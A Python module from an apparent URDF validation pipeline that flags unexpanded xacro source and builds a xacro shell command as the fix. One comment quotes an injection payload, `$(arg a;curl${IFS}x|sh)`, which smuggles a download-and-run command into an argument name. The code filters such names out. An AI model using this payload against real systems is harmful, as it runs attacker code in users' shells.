"""A URDF that is still xacro source: macros, includes and `${...}` no URDF reader expands.

ROS packages ship most arms as `.urdf.xacro`. Copied in unexpanded, such a file has its links
inside an `<xacro:macro>` and its numbers as `${pi/2}`: read as URDF it has no link at all, or
dozens of numbers that are not numbers. One finding names the cause instead.
"""

from __future__ import annotations

import re
from typing import Any

from lxml import etree

from pipeline.findings import Finding
from pipeline.strict_xml import source_line, undeclared_prefix

# the namespace xacro declares, in the spellings its documentation and packages use
XACRO_NAMESPACES = frozenset(
    {"http://ros.org/wiki/xacro", "http://www.ros.org/wiki/xacro", "http://wiki.ros.org/xacro"}
)
# xacro's property substitution and its substitution arguments ($(find pkg), $(arg x)...)
_SUBSTITUTIONS = ("${", "$(")


def xacro_findings(root: etree._Element, display: str, model_id: str, data: bytes) -> list[Finding]:
    """One finding when the URDF (`root`, parsed from `data`) holds xacro elements or
    substitutions, else none."""
    elements = [node for node in root.iter() if _is_xacro(node)]
    # the bytes first: without a mark, no attribute is read (lxml finds each value by name)
    marked = any(mark.encode() in data for mark in _SUBSTITUTIONS)
    substituted = [
        (node, str(name), str(value))
        for node in (root.iter() if marked else ())
        if isinstance(node.tag, str) and not _is_xacro(node)
        for name, value in node.attrib.items()
        if any(mark in str(value) for mark in _SUBSTITUTIONS)
    ]
    if not elements and not substituted:
        return []
    held = []
    if elements:
        first = f"<{elements[0].prefix or 'xacro'}:{etree.QName(elements[0]).localname}>"
        held.append(_count(elements, "xacro element", first))
    if substituted:
        node, name, value = substituted[0]
        first = f"{name}={value[:40]!r} in <{etree.QName(node).localname}>"
        held.append(_count(substituted, "${...} or $(...) substitution", first))
    lines = [source_line(n) for n in elements[:1]] + [source_line(n) for n, _, _ in substituted[:1]]
    return [
        Finding(
            "xacro_not_expanded",
            display,
            str(min(lines)),
            f"is xacro source, not URDF: it holds {' and '.join(held)}, which no URDF reader "
            "expands",
            _hint(model_id, _undeclared_args(elements, substituted, model_id)) + _find_advice(data),
        )
    ]


_ARG = re.compile(r"\$\(arg ([^)\s]+)\)")
# an argument name the fix's command may hold: the command is pasted into a shell, and a hostile
# source's `$(arg a;curl${IFS}x|sh)` would run there
_PLAIN_ARG = re.compile(r"[A-Za-z_][A-Za-z0-9_.-]*")
# the undeclared arguments the fix's command gives, at most
_ARGS_SHOWN = 5


def _undeclared_args(
    elements: list[etree._Element],
    substituted: list[tuple[etree._Element, str, str]],
    model_id: str,
) -> str:
    """` name:=value` for each `$(arg name)` the source uses and declares no `<xacro:arg>` for,
    which xacro refuses unless given ("Undefined substitution argument"), and whose name is
    plain (letters, digits, '_', '.', '-'; the command is pasted into a shell): the meshes' folder
    for one that starts a `<mesh filename>`, as hello-robot's tool URDFs write
    `$(arg tool_mesh_dir)/...STL`, else a placeholder."""
    declared = {
        str(node.get("name"))
        for node in elements
        if etree.QName(node).localname == "arg" and node.get("name") is not None
    }
    given: dict[str, str] = {}
    for node, name, value in substituted:
        for match in _ARG.finditer(value):
            arg = match.group(1)
            if (
                arg in declared
                or not _PLAIN_ARG.fullmatch(arg)
                or (arg not in given and len(given) >= _ARGS_SHOWN)
            ):
                continue
            meshes = (
                name == "filename" and match.start() == 0 and etree.QName(node).localname == "mesh"
            )
            if meshes or arg not in given:
                given[arg] = f"package://{model_id}/meshes" if meshes else "<value>"
    return "".join(f" {arg}:={value}" for arg, value in given.items())


_FIND = re.compile(rb"\$\(find ([^)\s]+)\)")


def _find_advice(data: bytes) -> str:
    """What the fix's xacro command needs first outside ROS when the source names a package by
    `$(find pkg)` (pip's xacro: "substitution args not supported"), else ""."""
    found = _FIND.search(data)
    if found is None:
        return ""
    package = found.group(1).decode("utf-8", "backslashreplace")
    return (
        "; outside ROS, xacro finds no package: first replace each $(find <package>) "
        f"($(find {package}) ...) with the path of that package's folder"
    )


def undeclared_xacro(refused: list[Finding], display: str, model_id: str) -> list[Finding]:
    """A URDF the XML reader refused for an undeclared `xacro:` prefix (xacro itself needs no
    declaration): xacro_not_expanded at that line instead; for another undeclared prefix, the
    fix says what the element is; else the findings as they are."""
    out = []
    for finding in refused:
        prefix = undeclared_prefix(finding.message) if finding.code == "invalid_xml" else None
        if prefix == "xacro":
            message = (
                "is xacro source, not URDF: it holds xacro elements (its xacro: prefix is not "
                "even declared), which no URDF reader expands"
            )
            return [Finding("xacro_not_expanded", display, finding.place, message, _hint(model_id))]
        if prefix is not None:
            # Gazebo's <sensor:camera> in a <gazebo> block: read by no URDF reader, Tesseract's
            # tinyxml2 reads past the prefix; the strict reader refuses it (docs/security.md)
            extension = " (an extension for a simulator, which no URDF reader uses)"
            finding = finding._replace(hint=finding.hint + extension)
        out.append(finding)
    return out


def _hint(model_id: str, args: str = "") -> str:
    # the source moved aside first: `xacro robot.urdf > robot.urdf` would empty it unread
    return (
        f"expand it with xacro (ROS's, or `pip install xacro`), keeping the source apart: `mv "
        f"robots/{model_id}/robot.urdf {model_id}.urdf.xacro && xacro {model_id}.urdf.xacro{args}"
        f" > robots/{model_id}/robot.urdf`, passing its arguments as name:=value"
    )


def _is_xacro(node: etree._Element) -> bool:
    """An element of xacro's: xacro itself goes by the `xacro:` prefix, whatever its URI."""
    if not isinstance(node.tag, str):
        return False
    return node.prefix == "xacro" or etree.QName(node).namespace in XACRO_NAMESPACES


def _count(found: list[Any], what: str, first: str) -> str:
    return f"1 {what} ({first})" if len(found) == 1 else f"{len(found)} {what}s (the first {first})"
